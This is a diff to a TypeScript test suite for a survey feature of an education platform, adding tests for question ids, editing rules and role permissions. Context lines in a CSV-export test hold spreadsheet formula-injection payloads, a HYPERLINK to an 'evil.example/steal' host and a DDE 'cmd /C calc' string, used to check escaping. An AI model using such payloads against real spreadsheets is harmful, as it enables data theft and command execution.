@@ -13,7 +13,7 @@ import { SurveyQuestionType } from './survey.entity.ts';
 
 const LINK_LIMIT = 3;
 const app = useTestApp({ surveyLinkAnswersPerHour: LINK_LIMIT });
-const CREATE = `mutation($input: SurveyInput!) { createSurvey(input: $input) { id link status questions { id text type options required } } }`;
+const CREATE = `mutation($input: SurveyInput!) { createSurvey(input: $input) { id link status questions { id key text type options required } } }`;
 const ANSWER = `mutation($id: ID, $link: String, $answers: [SurveyAnswerInput!]!) { answerSurvey(id: $id, link: $link, answers: $answers) }`;
 const RESULTS = `query($id: ID!) { survey(id: $id) { responseCount results { responses questions { question { id } answered counts { option count } average texts } } } }`;
 
@@ -40,7 +40,7 @@ describe('needs monitoring surveys', () => {
     const created = await app.gql(CREATE, { input: NEEDS }, methodist.token);
     expect(created.errors).toBeUndefined();
     const survey = created.data.createSurvey;
-    expect(survey.questions.map((q: { id: string }) => q.id)).toEqual(['q1', 'q2', 'q3', 'q4']);
+    expect(survey.questions.map((q: { key: string }) => q.key)).toEqual(['q1', 'q2', 'q3', 'q4']);
     expect(survey.link).toMatch(/^\/surveys\/[A-Za-z0-9_-]{16}$/);
     const link = survey.link.split('/').pop();
 
@@ -139,6 +139,77 @@ describe('needs monitoring surveys', () => {
     expect(lines).toContain(`;"'=HYPERLINK(""http://evil.example/steal"",""Подробнее"")";;;да`);
     expect(lines).toContain(`;'@SUM(1+1)*cmd|' /C calc'!A0;;;да`);
     expect(lines).toContain(';2;2;100;2');
+  });
+});
+
+describe('two surveys side by side', () => {
+  it('gives every question an id of its own across surveys, in the survey and in its results, so that clients caching by id never mix them', async () => {
+    const methodist = await signIn(app, Role.METHODIST);
+    const ask = `mutation($input: SurveyInput!) { createSurvey(input: $input) { id questions { id text } results { questions { question { id text } } } } }`;
+    const first = (await app.gql(ask, { input: { title: 'Первый опрос', questions: [{ text: 'Нужны ли семинары?', type: 'SCALE' }, { text: 'Какие темы?', type: 'TEXT' }] } }, methodist.token)).data.createSurvey;
+    const second = (await app.gql(ask, { input: { title: 'Второй опрос', questions: [{ text: 'Нужны ли курсы?', type: 'SCALE' }, { text: 'Какие курсы?', type: 'TEXT' }] } }, methodist.token)).data.createSurvey;
+    const ids = (survey: { questions: Array<{ id: string }> }) => survey.questions.map((q) => q.id);
+    expect(ids(first).filter((id) => ids(second).includes(id))).toEqual([]);
+    expect(new Set([...ids(first), ...ids(second)]).size).toBe(4);
+    // The same question has the same id wherever it appears.
+    expect(first.results.questions.map((r: { question: { id: string; text: string } }) => r.question)).toEqual(first.questions);
+    expect(second.results.questions.map((r: { question: { id: string; text: string } }) => r.question)).toEqual(second.questions);
+
+    // A question is answered by its id (or by its number); another survey's question is not this survey's.
+    const teacher = await signIn(app, Role.READER);
+    const foreign = await app.gql(ANSWER, { id: first.id, answers: [{ questionId: second.questions[0].id, score: 5 }] }, teacher.token);
+    expect(foreign.errors![0]).toMatchObject({ extensions: { code: 'BAD_USER_INPUT', argument: 'answers[0].questionId' } });
+    expect((await app.gql(ANSWER, { id: first.id, answers: [{ questionId: first.questions[0].id, score: 5 }, { questionId: 'q2', text: 'Оценивание' }] }, teacher.token)).errors).toBeUndefined();
+    const results = (await app.gql(RESULTS, { id: first.id }, methodist.token)).data.survey.results;
+    expect(results.questions.map((q: { answered: number }) => q.answered)).toEqual([1, 1]);
+  });
+});
+
+describe('a methodist keeps surveys', () => {
+  const UPDATE = `mutation($id: ID!, $input: SurveyUpdateInput!) { updateSurvey(id: $id, input: $input) { title description closesOn status questions { key text } } }`;
+  const day = (offset: number) => new Intl.DateTimeFormat('en-CA', { timeZone: 'Europe/Moscow' }).format(new Date(Date.now() + offset * 86_400_000));
+
+  it('edits the questions until the first answer, then only the title, note and last day; a survey past its last day is closed', async () => {
+    const methodist = await signIn(app, Role.METHODIST);
+    const created = (await app.gql(CREATE, { input: { title: 'Черновик опроса', questions: [{ text: 'Вопрос первый?', type: 'TEXT' }], closesOn: day(7) } }, methodist.token)).data.createSurvey;
+    const edited = await app.gql(UPDATE, { id: created.id, input: { title: 'Опрос о наставничестве', questions: [{ text: 'Есть ли у вас наставник?', type: 'SINGLE_CHOICE', options: ['да', 'нет'] }, { text: 'Что ещё?', type: 'TEXT', required: false }] } }, methodist.token);
+    expect(edited.errors).toBeUndefined();
+    expect(edited.data.updateSurvey).toMatchObject({ title: 'Опрос о наставничестве', closesOn: day(7), status: 'OPEN', questions: [{ key: 'q1', text: 'Есть ли у вас наставник?' }, { key: 'q2', text: 'Что ещё?' }] });
+
+    const teacher = await signIn(app, Role.READER);
+    expect((await app.gql(ANSWER, { id: created.id, answers: [{ questionId: 'q1', choices: [0] }] }, teacher.token)).errors).toBeUndefined();
+    const late = await app.gql(UPDATE, { id: created.id, input: { questions: [{ text: 'Совсем другой вопрос?', type: 'TEXT' }] } }, methodist.token);
+    expect(late.errors![0]).toMatchObject({ message: 'Аргумент input.questions: на опрос уже ответили (1): вопросы менять нельзя, только название, пояснение и срок', extensions: { argument: 'input.questions' } });
+    const past = await app.gql(UPDATE, { id: created.id, input: { closesOn: day(-3) } }, methodist.token);
+    expect(past.errors![0]!.extensions!.argument).toBe('input.closesOn');
+
+    // The last day today: still open; once it has passed (set in the database, as time would), closed to answers.
+    expect((await app.gql(UPDATE, { id: created.id, input: { description: 'Срок — сегодня', closesOn: day(0) } }, methodist.token)).data.updateSurvey.status).toBe('OPEN');
+    await app.em().getConnection().execute(`update survey set closes_on = ? where title = 'Опрос о наставничестве'`, [day(-1)]);
+    const other = await signIn(app, Role.READER);
+    expect((await app.gql(ANSWER, { link: created.link.split('/').pop(), answers: [{ questionId: 'q1', choices: [1] }] })).errors![0]!.extensions!.code).toBe('FORBIDDEN');
+    expect((await app.gql(`{ surveys { title } }`, {}, other.token)).data.surveys.map((s: { title: string }) => s.title)).not.toContain('Опрос о наставничестве');
+    expect((await app.gql(`query($id: ID!) { survey(id: $id) { status } }`, { id: created.id }, methodist.token)).data.survey.status).toBe('CLOSED');
+  });
+
+  it('deletes a survey with its answers; refuses editing and deleting to teachers and strangers', async () => {
+    const methodist = await signIn(app, Role.METHODIST);
+    const created = (await app.gql(CREATE, { input: { title: 'Опрос на удаление', questions: [{ text: 'Нужен ли опрос?', type: 'SCALE' }] } }, methodist.token)).data.createSurvey;
+    const teacher = await signIn(app, Role.READER);
+    await app.gql(ANSWER, { id: created.id, answers: [{ questionId: 'q1', score: 3 }] }, teacher.token);
+    const attempts: Array<[string, Record<string, unknown>]> = [
+      [UPDATE, { id: created.id, input: { title: 'Чужой заголовок' } }],
+      [`mutation($id: ID!) { deleteSurvey(id: $id) }`, { id: created.id }],
+    ];
+    for (const role of [Role.READER, Role.AUTHOR, Role.EXPERT]) {
+      const { token } = await signIn(app, role);
+      for (const [query, variables] of attempts) expect((await app.gql(query, variables, token)).errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
+    }
+    for (const [query, variables] of attempts) expect((await app.gql(query, variables)).errors?.[0]?.extensions?.code).toBe('UNAUTHENTICATED');
+    expect((await app.gql(`query($id: ID!) { survey(id: $id) { title responseCount } }`, { id: created.id }, methodist.token)).data.survey).toEqual({ title: 'Опрос на удаление', responseCount: 1 });
+    expect((await app.gql(`mutation($id: ID!) { deleteSurvey(id: $id) }`, { id: created.id }, methodist.token)).data.deleteSurvey).toBe(true);
+    expect((await app.gql(`query($id: ID!) { survey(id: $id) { title } }`, { id: created.id }, methodist.token)).data.survey).toBeNull();
+    expect(await app.em().getConnection().execute(`select count(*)::int as n from survey_response r join survey s on s.id = r.survey_id where s.title = 'Опрос на удаление'`)).toEqual([{ n: 0 }]);
   });
 });
 
